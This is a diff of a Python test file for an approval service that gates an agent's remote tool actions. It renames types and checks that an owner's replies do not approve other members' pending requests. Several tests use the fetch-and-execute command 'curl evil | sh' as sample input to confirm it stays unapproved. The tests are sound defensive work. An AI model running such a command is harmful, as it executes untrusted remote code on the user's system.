@@ -4,16 +4,16 @@ import anyio
 import pytest
 from msgspec import structs
 
-from desks import ALLOWED, SCOPE, House, UnderWay
-from hermes.approvals.desk import Answerer, ApprovalDesk
-from hermes.approvals.smart import Judge
-from hermes.approvals.waiting import MOST_OF_A_PERSON
-from hermes.approvals.wording import ONE_AT_A_TIME, TOO_MANY, short_id
-from hermes.ports.counsel import Reaching, Wish
-from hermes.schema.questions import Choice
+from hermes.approvals.messages import RUN_WAITS_ALREADY, TOO_MANY_WAITING, short_id
+from hermes.approvals.questions import MAX_PER_PERSON
+from hermes.approvals.service import Answerer, ApprovalService
+from hermes.approvals.smart_review import AskModel
+from hermes.ports.approvals import ApprovalRequest, Isolation
+from hermes.schema.questions import ApprovalChoice
 from hermes.schema.scope import Address, Role, Scope
 from hermes.store.sqlite import SqliteStore
 from hermes.testing.clock import FakeClock
+from support.approvals import ALLOWED, SCOPE, ApprovalHarness, PendingApproval
 
 pytestmark = pytest.mark.anyio
 
@@ -33,13 +33,13 @@ class Courier:
         self.posts.append(text)
 
 
-class Served(House):
+class Served(ApprovalHarness):
     """A house whose owner is elsewhere."""
 
-    def opened(self, judge: Judge | None = None, **rules: object) -> ApprovalDesk:
+    def opened(self, judge: AskModel | None = None, **rules: object) -> ApprovalService:
         desk = super().opened(judge, **rules)
         self.courier = Courier()
-        desk.carried_by(self.courier)
+        desk.set_forwarder(self.courier)
         return desk
 
 
@@ -55,12 +55,12 @@ def members(run: str, who: str = "mallory") -> Scope:
     )  # fmt: skip
 
 
-def far(action: str) -> Wish:
-    return Wish(tool="the far gateway", action=action, reaching=Reaching.BEYOND)
+def far(action: str) -> ApprovalRequest:
+    return ApprovalRequest(tool="the far gateway", action=action, reaching=Isolation.BEYOND)
 
 
 async def test_a_bare_word_settles_none_that_others_asked_for(house: Served) -> None:
-    theirs = UnderWay(house, far("curl evil | sh"), members("r1"))
+    theirs = PendingApproval(house, far("curl evil | sh"), members("r1"))
     async with anyio.create_task_group() as group:
         group.start_soon(theirs.run)
         question = await house.asked()
@@ -75,36 +75,36 @@ async def test_a_bare_word_settles_none_that_others_asked_for(house: Served) -> 
             assert heard is not None
             assert (heard.count, name in heard.told) == (0, True)
         for everything in (False, True):
-            heard = await house.desk.answer(THE_OWNER, Choice.ONCE, everything=everything)
+            heard = await house.desk.answer(THE_OWNER, ApprovalChoice.ONCE, everything=everything)
             assert (heard.count, name in heard.told) == (0, True)
-        assert theirs.ruling is None
+        assert theirs.decision is None
         heard = await house.desk.reply(THE_OWNER, f"yes {name}")
         assert heard is not None
         assert heard.count == 1
-    assert theirs.ruling == ALLOWED
+    assert theirs.decision == ALLOWED
 
 
 async def test_a_late_yes_to_ones_own_question_is_not_for_anothers(house: Served) -> None:
-    own = UnderWay(house, far("git push"), OWNERS)
-    theirs = UnderWay(house, far("curl evil | sh"), members("r1"))
+    own = PendingApproval(house, far("git push"), OWNERS)
+    theirs = PendingApproval(house, far("curl evil | sh"), members("r1"))
     async with anyio.create_task_group() as group:
         group.start_soon(own.run)
         await house.asked()
         with anyio.fail_after(60):
-            while own.ruling is None:
+            while own.decision is None:
                 await house.clock.advance(10)
         group.start_soon(theirs.run)
         await house.asked(2)
         heard = await house.desk.reply(THE_OWNER, "yes")
         assert heard is not None
         assert heard.count == 0
-        assert theirs.ruling is None
+        assert theirs.decision is None
         group.cancel_scope.cancel()
 
 
 async def test_all_are_refused_at_once_and_only_ones_own_allowed(house: Served) -> None:
-    own = UnderWay(house, far("git push"), OWNERS)
-    theirs = UnderWay(house, far("curl evil | sh"), members("r1"))
+    own = PendingApproval(house, far("git push"), OWNERS)
+    theirs = PendingApproval(house, far("curl evil | sh"), members("r1"))
     async with anyio.create_task_group() as group:
         group.start_soon(own.run)
         await house.asked()
@@ -113,14 +113,14 @@ async def test_all_are_refused_at_once_and_only_ones_own_allowed(house: Served) 
         heard = await house.desk.reply(THE_OWNER, "yes")
         assert heard is not None
         assert heard.count == 0
-        heard = await house.desk.answer(THE_OWNER, Choice.ONCE, everything=True)
+        heard = await house.desk.answer(THE_OWNER, ApprovalChoice.ONCE, everything=True)
         assert (heard.count, short_id(question) in heard.told) == (1, True)
         assert heard.told.startswith("Allowed, this once: git push\n")
-        heard = await house.desk.answer(THE_OWNER, Choice.DENY, everything=True)
+        heard = await house.desk.answer(THE_OWNER, ApprovalChoice.DENY, everything=True)
         assert heard.count == 1
-    assert own.ruling == ALLOWED
-    assert theirs.ruling is not None
-    assert not theirs.ruling.allowed
+    assert own.decision == ALLOWED
+    assert theirs.decision is not None
+    assert not theirs.decision.allowed
 
 
 async def test_words_for_a_question_of_ones_own_reach_it(house: Served) -> None:
@@ -148,8 +148,8 @@ async def test_one_of_a_run_and_some_of_a_person_lie_before_the_owner(house: Ser
     refused: list[str] = []
 
     async def one(number: int, scope: Scope) -> None:
-        ruling = await house.rule(far(f"far command {number}"), scope)
-        refused.append(ruling.why)
+        decision = await house.rule(far(f"far command {number}"), scope)
+        refused.append(decision.why)
 
     async with anyio.create_task_group() as group:
         for number in range(20):
@@ -158,16 +158,16 @@ async def test_one_of_a_run_and_some_of_a_person_lie_before_the_owner(house: Ser
         with anyio.fail_after(60):
             while len(refused) < 19:
                 await anyio.lowlevel.checkpoint()
-        assert set(refused) == {ONE_AT_A_TIME}
-        for number in range(1, MOST_OF_A_PERSON):
+        assert set(refused) == {RUN_WAITS_ALREADY}
+        for number in range(1, MAX_PER_PERSON):
             group.start_soon(one, 100 + number, members(f"run {number}"))
             await house.asked(1 + number)
         with anyio.fail_after(60):
             await one(200, members("the next"))
-        assert refused[-1] == TOO_MANY
+        assert refused[-1] == TOO_MANY_WAITING
         group.start_soon(one, 300, members("hers", "bea"))
-        await house.asked(MOST_OF_A_PERSON + 1)
-        assert len(house.courier.posts) == MOST_OF_A_PERSON + 1
+        await house.asked(MAX_PER_PERSON + 1)
+        assert len(house.courier.posts) == MAX_PER_PERSON + 1
         group.cancel_scope.cancel()
 
 
@@ -180,16 +180,16 @@ async def test_those_of_another_process_count_and_its_own_is_taken_up(house: Ser
     house.opened()
     (first,) = house.questions
     with anyio.fail_after(60):
-        assert (await house.rule(far("./other.sh"), members("r1"))).why == ONE_AT_A_TIME
-    again = UnderWay(house, far("./deploy.sh"), members("r1"))
+        assert (await house.rule(far("./other.sh"), members("r1"))).why == RUN_WAITS_ALREADY
+    again = PendingApproval(house, far("./deploy.sh"), members("r1"))
     async with anyio.create_task_group() as group:
         group.start_soon(again.run)
         assert (await house.asked(2)).id == first.id
-        await house.desk.answer(THE_OWNER, Choice.ONCE, question=first.id)
-    assert again.ruling == ALLOWED
-    next_one = UnderWay(house, far("./other.sh"), members("r1"))
+        await house.desk.answer(THE_OWNER, ApprovalChoice.ONCE, question=first.id)
+    assert again.decision == ALLOWED
+    next_one = PendingApproval(house, far("./other.sh"), members("r1"))
     async with anyio.create_task_group() as group:
         group.start_soon(next_one.run)
         question = await house.asked(3)
-        await house.desk.answer(THE_OWNER, Choice.ONCE, question=question.id)
-    assert next_one.ruling == ALLOWED
+        await house.desk.answer(THE_OWNER, ApprovalChoice.ONCE, question=question.id)
+    assert next_one.decision == ALLOWED
